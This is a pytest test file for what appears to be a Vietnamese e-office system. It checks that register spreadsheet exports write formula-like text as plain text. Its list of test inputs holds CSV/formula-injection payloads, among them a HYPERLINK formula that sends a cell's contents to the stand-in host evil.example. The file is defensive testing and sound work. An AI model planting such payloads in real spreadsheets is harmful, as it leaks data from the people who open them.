"""Register exports never write a cell a spreadsheet runs as a formula (issue 13): text that starts with ``=``,
``+``, ``-``, ``@``, a tab or a line break is written as text, marked with a leading apostrophe."""

from __future__ import annotations

import datetime as dt
import io
from types import SimpleNamespace

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from eoffice.outgoing.register import RegisterRow, register_xlsx

from .conftest import at, make_doc

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"Bấm")', "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1"]


def _cells(data: bytes):
    workbook = load_workbook(io.BytesIO(data))
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            yield from row


@pytest.mark.parametrize("text", HOSTILE)
def test_the_outgoing_register_xlsx_writes_formula_like_text_as_text(text):
    row = RegisterRow(notation=text, issued_on=dt.date(2026, 3, 1), signer=text, type_and_summary=text,
                      recipients=text, keeper="Văn phòng", copies=3, notes=text)
    cells = list(_cells(register_xlsx(SimpleNamespace(name="Sở Tư pháp"), 2026, text, [row])))
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert f"'{text}" in {c.value for c in cells}
    assert 3 in {c.value for c in cells}  # numbers stay numbers


def test_the_incoming_register_xlsx_writes_a_formula_summary_as_text(client, org):
    make_doc(org, arrived=at(2026, 1, 5), summary=HOSTILE[0], notes="=1+2")
    client.force_login(org.leader)
    response = client.get(reverse("reports:incoming-register", args=[2026, "xlsx"]))
    assert response.status_code == 200
    cells = list(_cells(b"".join(response.streaming_content)))
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    values = {c.value for c in cells}
    assert "'=1+2" in values
